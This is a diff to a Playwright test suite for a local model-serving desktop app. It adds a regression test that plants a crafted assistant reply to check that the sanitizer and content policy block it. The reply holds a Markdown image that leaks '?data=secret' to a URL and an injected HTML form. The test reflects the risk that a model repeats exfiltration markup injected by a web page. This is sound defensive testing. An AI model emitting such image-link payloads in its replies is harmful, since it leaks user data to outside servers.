@@ -56,7 +56,8 @@ def hub(smollm2_path):
 
 @pytest.fixture(scope="module")
 def desktop_app(tmp_path_factory, hub):
-    """`localinfer app --no-browser`: the page's address, with this launch's key."""
+    """`localinfer app --no-browser`: the page's address with this launch's key, from the
+    launch file the app names (the key itself is never printed)."""
     home = tmp_path_factory.mktemp("app-home")
     env = {**os.environ, "LOCALINFER_HOME": str(home), "LOCALINFER_MAX_TOKENS": "24",
            "HF_ENDPOINT": hub.url, "HF_HOME": str(home / "hf"),
@@ -70,14 +71,20 @@ def desktop_app(tmp_path_factory, hub):
         line = process.stdout.readline()
         if not line and process.poll() is not None:
             break
-        found = re.search(r"(http://127\.0\.0\.1:\d+/#key=\S+)", line)
-        page = found.group(1) if found else None
+        found = re.search(r"open file://(\S+)", line)
+        page = (re.search(r'"(http://127\.0\.0\.1:\d+/#key=[^"]+)"',
+                          Path(found.group(1)).read_text()).group(1) if found else None)
     if page is None:
         process.kill()
         pytest.fail(f"localinfer app did not print its address:\n{process.stdout.read()}")
     yield page
     process.terminate()
     assert process.wait(timeout=20) == 0
+
+
+# Playwright's wait_for_function evaluates its predicate with eval, which the page's own
+# policy forbids, as it should; these contexts bypass it (the policy has a test of its own)
+WAITS = {"bypass_csp": True}
 
 
 def _shot(page, name: str) -> None:
@@ -94,7 +101,7 @@ def _ask(page, text: str, replies: int) -> None:
 
 
 def test_chat_switch_model_and_find_the_chat_after_a_reload(browser, desktop_app):
-    context = browser.new_context(viewport={"width": 1200, "height": 800})
+    context = browser.new_context(viewport={"width": 1200, "height": 800}, **WAITS)
     page = context.new_page()
     page.goto(desktop_app)
     assert "#key=" not in page.url  # the key leaves the address bar at once
@@ -135,8 +142,56 @@ def test_chat_switch_model_and_find_the_chat_after_a_reload(browser, desktop_app
     context.close()
 
 
-def test_without_the_launch_key_the_page_gets_nothing(browser, desktop_app):
+def test_a_reply_can_neither_fetch_a_url_nor_show_a_form(browser, desktop_app):
+    """A reply's Markdown image made the browser fetch its URL with no click (data in the
+    query), and a <form> survived the sanitizer. A model may repeat what a page told it.
+    The image points at a server of our own on another port, which counts what reaches it."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Listener(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args) -> None:
+            pass
+
+    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    leak = f"http://127.0.0.1:{other.server_address[1]}/x.png?data=secret"
+    base = desktop_app.split("/#", 1)[0]
+    assert "img-src 'self' data:" in httpx.get(base + "/", headers={"Accept": "text/html"},
+                                               timeout=30).headers["content-security-policy"]
+    reply = (f"![x]({leak})\n\n<form action='{leak}'><input name='q'>"
+             f"<button>Send</button></form><p style='color: red'>styled</p>")
+    chat = {"id": "c1", "title": "Crafted", "model": "smollm2:135m", "system": "", "params": {},
+            "updated": 1, "messages": [{"role": "user", "content": "hi"},
+                                       {"role": "assistant", "content": reply}]}
     context = browser.new_context()
+    page = context.new_page()
+    try:
+        page.goto(desktop_app)
+        page.evaluate("c => localStorage.setItem('localinfer.chats.v1', JSON.stringify([c]))",
+                      chat)
+        page.reload()
+        page.click("#chats li a")
+        page.wait_for_selector(".message.assistant img")
+        content = page.locator(".message.assistant .content")
+        assert content.locator("form, input, button").count() == 0
+        assert content.locator("[style]").count() == 0 and "styled" in content.inner_text()
+        page.wait_for_timeout(500)  # time for a fetch to arrive, were it allowed
+        assert hits == []
+    finally:
+        context.close()
+        other.shutdown()
+
+
+def test_without_the_launch_key_the_page_gets_nothing(browser, desktop_app):
+    context = browser.new_context(**WAITS)
     page = context.new_page()
     page.goto(desktop_app.split("#", 1)[0])
     page.wait_for_function("document.querySelector('#status').textContent.includes('API key')")
@@ -145,7 +200,7 @@ def test_without_the_launch_key_the_page_gets_nothing(browser, desktop_app):
 
 
 def test_rename_and_export_a_conversation(browser, desktop_app, tmp_path):
-    context = browser.new_context(accept_downloads=True)
+    context = browser.new_context(accept_downloads=True, **WAITS)
     page = context.new_page()
     page.goto(desktop_app)
     page.wait_for_function("document.querySelector('#model').value === 'smollm2:135m'")
@@ -180,7 +235,7 @@ def test_remove_a_pulled_model_but_not_an_embedded_one(browser, desktop_app):
     done = httpx.post(f"{base}/api/pull", json={"model": pulled, "stream": False},
                       headers={"Authorization": f"Bearer {key}"}, timeout=60)
     assert done.status_code == 200, done.text
-    context = browser.new_context()
+    context = browser.new_context(**WAITS)
     page = context.new_page()
     page.goto(desktop_app)
     page.wait_for_function("document.querySelector('#model').value === 'smollm2:135m'")
